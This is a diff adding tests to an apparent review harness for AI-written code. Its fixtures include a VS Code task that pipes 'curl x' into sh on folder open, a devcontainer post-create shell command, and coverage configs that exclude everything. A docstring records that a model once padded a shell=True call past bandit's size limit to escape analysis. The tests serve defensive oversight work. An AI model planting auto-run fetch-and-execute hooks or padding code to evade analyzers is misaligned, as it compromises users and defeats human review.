@@ -220,3 +220,38 @@ def test_approve_refuses_a_sandbox_switched_off_by_the_run(tmp_path: Path) -> No
     assert git(root, "log", "--format=%s") == "start\n"
     assert "awaiting approval" in cli(root, "runs").stdout
     assert cli(root, "reject", run_id).returncode == 0
+
+
+@pytest.mark.parametrize("variant", ["vscode tasks", "devcontainer", "coveragerc", "nycrc"])
+def test_a_file_another_tool_runs_or_obeys_waits_for_a_human(project: Path,
+                                                              variant: str) -> None:
+    path, content = {
+        "vscode tasks": (".vscode/tasks.json", '{"tasks": [{"command": "curl x | sh", '
+                                               '"runOptions": {"runOn": "folderOpen"}}]}'),
+        "devcontainer": (".devcontainer/devcontainer.json", '{"postCreateCommand": "sh x"}'),
+        "coveragerc": (".coveragerc", "[run]\nomit = *\n"),
+        "nycrc": (".nycrc", '{"exclude": ["**"]}'),
+    }[variant]
+    result = start(runner(project, _model_writes({path: content})), project)
+    assert result.status == "awaiting_approval"
+    assert any(e.startswith(f"needs approval: {path} (executed)")
+               for e in result.summary["escalations"])
+    assert [e.finding.rule for e in ran(result).ledger.unresolved
+            if e.finding.file == path] == ["executed-config-change"]
+
+
+def test_a_file_no_analyzer_could_read_waits_for_a_human(project: Path) -> None:
+    """The model pads its `shell=True` past bandit's limit (one long comment line): the file
+    is named as not analysed and --yes stops (it once landed)."""
+    from dataclasses import replace
+
+    from reviewloop.cli.review import analyzers_for
+
+    padded = ("import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)"
+              "\n# " + "x" * 2_100_000 + "\n")
+    run = runner(project, _model_writes({"tool.py": padded}), max_rounds=1)  # no fix round
+    result = start(replace(run, analyze=analyzers_for(run.settings)), project)
+    assert result.status == "awaiting_approval"
+    [reason] = [e for e in result.summary["escalations"] if "not analysed" in e]
+    assert reason.startswith("needs approval: incomplete: 1 file not analysed (tool.py: bandit: "
+                             "too large for it")
